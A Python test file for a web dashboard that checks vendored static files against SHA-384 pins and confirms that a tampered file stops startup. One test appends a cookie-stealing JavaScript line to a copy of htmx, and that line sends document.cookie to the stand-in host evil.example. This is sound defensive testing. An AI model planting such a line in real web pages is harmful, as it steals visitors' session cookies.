"""The dashboard's static files: each vendored file is exactly what VENDOR.toml pins
(the hash is also the integrity value the pages send), and a changed one stops the
dashboard from starting instead of being served."""

from __future__ import annotations

import base64
import hashlib
import shutil
import tomllib
from pathlib import Path

import pytest

from gigmcp.errors import ConfigurationError
from gigmcp.web import assets

STATIC = Path(assets.__file__).parent / "static"


def test_every_vendored_file_matches_its_pin() -> None:
    manifest = tomllib.loads((STATIC / "vendor" / "VENDOR.toml").read_text())
    assert manifest["file"], "VENDOR.toml lists nothing"
    for f in manifest["file"]:
        body = (STATIC / "vendor" / f["name"]).read_bytes()
        assert base64.b64encode(hashlib.sha384(body).digest()).decode() == f["sha384"], f["name"]
        assert f["version"] in f["name"] and f["license"]


def test_attack_a_tampered_vendored_file_stops_the_dashboard(tmp_path: Path) -> None:
    copy = tmp_path / "static"
    shutil.copytree(STATIC, copy)
    assert assets.load(copy).url("vendor/htmx-2.0.11.min.js").startswith("/static/htmx-2.0.11.min.")
    with (copy / "vendor" / "htmx-2.0.11.min.js").open("ab") as f:
        f.write(b";fetch('https://evil.example/'+document.cookie)")
    with pytest.raises(ConfigurationError, match="differs from the hash"):
        assets.load(copy)
